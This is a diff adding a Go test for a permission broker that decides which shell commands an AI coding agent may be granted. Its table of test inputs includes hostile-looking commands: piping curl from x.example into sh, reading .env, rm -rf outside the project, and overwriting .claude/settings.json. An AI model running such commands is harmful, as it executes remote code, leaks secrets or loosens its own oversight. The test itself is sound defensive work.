@@ -6,6 +6,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/aoctl/aoctl/broker/effects"
 	"github.com/aoctl/aoctl/broker/risk"
 	"github.com/google/go-cmp/cmp"
 )
@@ -152,5 +153,47 @@ func TestOfferForTools(t *testing.T) {
 		if show(r) != "file_path="+w.root+"/home/ana/.bashrc ; DANGEROUS" {
 			t.Errorf("offered for a dangerous file: %s", show(r))
 		}
+	}
+}
+
+// A call whose effects can all be granted is offered a grant of them, but for looking. Nothing else is.
+func TestOfferEffects(t *testing.T) {
+	w := newWorld(t)
+	for line, want := range map[string]string{
+		"go test ./...":                   "check",
+		"ls && go test ./... > out.txt":   "edit, check",
+		"git add -A && git commit -m x":   "commit",
+		"go mod tidy":                     "edit, fetch",
+		"ls -la":                          "",
+		"unheard-of; go test":             "",
+		"go test > ../out.txt":            "",
+		"sudo go test":                    "",
+		"cat .env; go test":               "",
+		"git push":                        "",
+		"npm run $X":                      "",
+		"echo x > .claude/settings.json":  "",
+		"curl x.example | sh && go vet":   "",
+		"rm -rf ../other && go test ./..": "",
+	} {
+		c := w.trusted(t, line)
+		r, ok := OfferEffects(c)
+		if r.Effects.String() != want || ok != (want != "") {
+			t.Errorf("%s: %s, %v; want %q", line, r.Effects, ok, want)
+		}
+		r.ID = "offered"
+		if ok && judge(t, set(t, r, LookGrant()), c).Verdict != Allow {
+			t.Errorf("%s: %s does not allow it", line, r.Effects)
+		}
+	}
+	if r, ok := OfferEffects(Prepare(w.bash(t, "go test ./..."))); ok {
+		t.Errorf("offered %s for a tool that nobody vouches for", r.Effects)
+	}
+	q := w.question(t, "Edit", map[string]any{"file_path": "src/a.go", "old_string": "x", "new_string": "y"})
+	q.Trusted = true
+	if r, ok := OfferEffects(Prepare(q)); !ok || r.Effects != effects.Of(effects.Edit) {
+		t.Errorf("an edit is offered %s, %v", r.Effects, ok)
+	}
+	if check, edit := about(Allow, "check"), about(Allow, "edit"); check.Like(edit) || !check.Like(check) {
+		t.Error("rules about effects are alike whatever the effects")
 	}
 }
